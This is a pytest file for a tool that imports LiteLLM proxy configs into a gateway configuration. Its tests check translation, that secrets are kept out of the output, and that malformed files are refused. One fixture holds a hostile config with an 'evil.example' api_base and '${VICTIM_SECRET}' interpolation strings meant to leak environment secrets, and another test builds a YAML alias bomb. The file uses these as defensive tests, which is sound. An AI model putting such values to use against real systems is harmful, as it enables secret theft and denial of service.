"""`pointsman import litellm` writes a configuration that the gateway accepts, and reports everything that it left
out."""

import os
from pathlib import Path
from typing import Any

import pytest
import yaml
from pointsman_gateway.bootstrap import check_config
from pointsman_gateway.config.field_types import ConfigError
from pointsman_gateway.config.load import Config, load_config
from pointsman_lab.litellm_import import import_litellm
from pointsman_lab.report import Report

VARIABLES = {"AZURE_API_BASE": "https://ours.openai.azure.com", "AZURE_API_VERSION": "2024-10-21"}
PROXY: dict[str, Any] = {
    "model_list": [
        {
            "model_name": "gpt-4o-mini",
            "litellm_params": {
                "model": "azure/our-mini",
                "api_base": "os.environ/AZURE_API_BASE",
                "api_key": "os.environ/AZURE_API_KEY",
                "api_version": "os.environ/AZURE_API_VERSION",
                "rpm": 600,
            },
            "model_info": {"base_model": "azure/gpt-4o-mini", "max_input_tokens": 128000},
        },
        {
            "model_name": "gpt-4o-mini",
            "litellm_params": {
                "model": "openai/gpt-4o-mini",
                "api_key": "sk-very-secret",
                "input_cost_per_token": 1.5e-07,
                "output_cost_per_token": 6e-07,
            },
        },
        {
            "model_name": "claude",
            "litellm_params": {"model": "anthropic/claude-haiku-4-5", "temperature": 0.2, "max_tokens": 400},
        },
        {
            "model_name": "our llama",
            "litellm_params": {
                "model": "hosted_vllm/meta-llama/Llama-3.1-8B-Instruct",
                "api_base": "http://vllm:8000/v1",
                "input_cost_per_token": 1e-07,
                "output_cost_per_token": 2e-07,
                "cache_creation_input_token_cost": 1.25e-07,
            },
            "model_info": {"max_tokens": 8192, "supports_vision": True},
        },
        {"model_name": "anthropic/*", "litellm_params": {"model": "anthropic/*"}},
        {"model_name": "voice", "litellm_params": {"model": "openai/tts-1"}, "model_info": {"mode": "audio_speech"}},
    ],
    "litellm_settings": {
        "num_retries": 3,
        "request_timeout": 30,
        "fallbacks": [{"gpt-4o-mini": ["claude", "voice"]}],
        "max_budget": 100,
        "budget_duration": "30d",
        "success_callback": ["langfuse"],
        "default_key_generate_params": {"max_budget": 5, "budget_duration": "1d", "rpm_limit": 60, "tpm_limit": 9000},
        "cache": True,
        "cache_params": {"type": "redis", "ttl": 600},
    },
    "router_settings": {
        "routing_strategy": "usage-based-routing-v2",
        "allowed_fails": 2,
        "cooldown_time": 45,
        "model_group_alias": {"gpt-4": "gpt-4o-mini"},
        "redis_password": "hunter2",
    },
    "general_settings": {"master_key": "sk-master", "a_new_setting": {"of_next_year": 7}},
    "environment_variables": {"OPENAI_API_KEY": "sk-also-secret"},
}


def translate(tmp_path: Path, content: Any) -> tuple[Report, Path]:
    file = tmp_path / "config.yaml"
    file.write_text(content if isinstance(content, str) else yaml.safe_dump(content))
    return import_litellm(file, tmp_path / "mine"), tmp_path / "mine"


@pytest.fixture
def translated(tmp_path: Path) -> tuple[Report, Config]:
    report, folder = translate(tmp_path, PROXY)
    config = load_config(folder, VARIABLES)
    check_config(config)
    return report, config


def test_models_engines_fallbacks_and_settings_are_translated(translated: tuple[Report, Config]) -> None:
    _, config = translated
    models, engines = config.models.models, config.models.engines
    assert list(models) == ["gpt-4o-mini", "claude", "our-llama"]
    assert models["gpt-4o-mini"].fallback == ("claude",)
    price = models["our-llama"].usd_per_million_tokens
    assert price is not None
    assert price.by_kind == {"prompt": 0.1, "cached": 0.1, "completion": 0.2, "cache_write": 0.125}
    assert (models["our-llama"].context_window, models["our-llama"].input) == (8192, ("text", "image"))
    assert [(engine.preset_name, engine.upstream_name, engine.api_key_env) for engine in engines.values()] == [
        ("azure-deployments", "our-mini", "AZURE_API_KEY"),
        ("openai", "gpt-4o-mini", "OPENAI_API_KEY"),
        ("anthropic", "claude-haiku-4-5", "ANTHROPIC_API_KEY"),
        ("vllm", "meta-llama/Llama-3.1-8B-Instruct", ""),
    ]
    assert engines["gpt-4o-mini"].base_url == "https://ours.openai.azure.com/openai"
    assert engines["our-llama"].base_url == "http://vllm:8000"
    assert (config.paths.paths["claude"].temperature, config.paths.paths["claude"].max_tokens) == (0.2, 400)
    assert config.models.aliases == {"gpt-4": "gpt-4o-mini"}
    resilience = config.models.resilience
    assert (resilience.retries.max_retries, resilience.timeouts.first_token_seconds) == (3, 30)
    assert (resilience.breaker.consecutive_failures, resilience.breaker.open_duration_seconds) == (3, 45)
    cache = config.paths.paths["claude"].cache
    assert cache is not None
    assert cache.ttl_seconds == 600


def test_budgets_and_limits_become_commands(translated: tuple[Report, Config]) -> None:
    report, _ = translated
    assert report.facts["commands"] == [
        "pointsman keys create NAME --tenant TEAM --tokens-per-minute 9000 --requests-per-minute 60"
        " --dollars-per-day 5",
        "pointsman keys limit --tenant TEAM --dollars-per-month 100",
    ]


def test_every_other_value_is_reported_and_no_secret_is_shown(
    translated: tuple[Report, Config], tmp_path: Path
) -> None:
    report, _ = translated
    rows = dict(report.facts["remaining"])
    assert rows["general_settings.a_new_setting.of_next_year = 7"] == "no equivalent"
    assert "wildcards" in rows["model_list[4].model_name"]
    assert "audio_speech" in rows["model_list[5].model_name"]
    assert "pointsman keys" in rows["model_list[0].litellm_params.rpm = 600"]
    assert "balanced" in rows["router_settings.routing_strategy = usage-based-routing-v2"]
    assert "OPENAI_API_KEY" in rows["model_list[1].litellm_params.api_key"]
    assert "only models that are translated" in rows["fallbacks.gpt-4o-mini"]
    assert {"general_settings.master_key", "router_settings.redis_password"} <= rows.keys()
    written = (tmp_path / "mine" / "import.txt").read_text()
    assert all(place in written for place in rows)
    for secret in ("sk-very-secret", "hunter2", "sk-master", "sk-also-secret"):
        assert secret not in written + (tmp_path / "mine" / "pointsman.yaml").read_text() + report.as_json()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("model_list: [", "cannot be read as YAML"),
        ("router_settings: {}", "has no model_list, so it is no config.yaml of LiteLLM's proxy"),
        ({"model_list": [{"model_name": "a", "litellm_params": {"model": "sagemaker/b"}}]}, "has no chat model"),
    ],
)
def test_a_file_without_a_usable_model_is_refused_and_nothing_is_written(
    tmp_path: Path, content: Any, message: str
) -> None:
    with pytest.raises(ConfigError, match=message):
        translate(tmp_path, content)
    assert os.listdir(tmp_path) == ["config.yaml"]


def test_values_of_another_kind_are_reported_and_the_rest_is_translated(tmp_path: Path) -> None:
    parameters = {"model": "openai/gpt-4o-mini", "api_key": 7, "output_cost_per_token": "cheap"}
    content = {
        "model_list": [
            {"model_name": "gpt", "litellm_params": parameters, "model_info": {"max_tokens": "4k", "mode": 1}}
        ],
        "router_settings": {"num_retries": "os.environ/RETRIES", "timeout": "20", "model_group_alias": ["gpt"]},
        "litellm_settings": {"fallbacks": ["gpt"], "max_budget": "1000000", "rpm_limit": [1]},
    }
    report, folder = translate(tmp_path, content)
    assert {place for place, advice in report.facts["remaining"] if advice.startswith("not understood")} == {
        "model_list[0].litellm_params.api_key",
        "model_list[0].litellm_params.output_cost_per_token",
        "model_list[0].model_info.max_tokens",
        "model_list[0].model_info.mode",
        "router_settings.num_retries",
        "router_settings.model_group_alias",
        "fallbacks.gpt",
        "litellm_settings.rpm_limit",
    }
    assert report.facts["commands"] == ["pointsman keys limit --tenant TEAM --dollars-per-month 1000000"]
    assert load_config(folder, {}).models.resilience.timeouts.first_token_seconds == 20


HOSTILE: dict[str, Any] = {
    "model_list": [
        {
            "model_name": "a ${VICTIM_SECRET}",
            "litellm_params": {
                "model": "openai/${VICTIM_SECRET}",
                "api_base": "http://evil.example/${VICTIM_SECRET}",
                "api_key": "os.environ/OTHER_SECRET",
                "stop": ["${VICTIM_SECRET}"],
            },
        }
    ],
    "router_settings": {"model_group_alias": {"${VICTIM_SECRET:-x}": "a ${VICTIM_SECRET}"}},
}


def test_no_variable_of_this_machine_is_read_that_litellm_would_not_read(tmp_path: Path) -> None:
    report, folder = translate(tmp_path, HOSTILE)
    config = load_config(folder, {"VICTIM_SECRET": "sk-victim", "OTHER_SECRET": "sk-other"})
    (engine,) = config.models.engines.values()
    assert (engine.url, engine.upstream_name) == ("http://evil.example/${VICTIM_SECRET}", "${VICTIM_SECRET}")
    assert "sk-victim" not in repr(config)
    assert load_config(folder, {})  # none is needed
    assert "OTHER_SECRET" in report.as_text()
    assert "the key that is sent to http://evil.example/" in report.as_text()


@pytest.mark.parametrize("text", ["model_list: &a [*a]", "a: &a [*a]\nmodel_list: []"])
def test_a_file_that_contains_itself_is_refused(tmp_path: Path, text: str) -> None:
    with pytest.raises(ConfigError, match="contains itself by an alias"):
        translate(tmp_path, text)


def test_aliases_of_aliases_are_refused_at_once(tmp_path: Path) -> None:
    lines = [f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * 10)}]" for level in range(1, 9)]
    with pytest.raises(ConfigError, match="aliases make it too large"):
        translate(tmp_path, "a0: &a0 x\n" + "\n".join(lines) + "\nmodel_list: []")
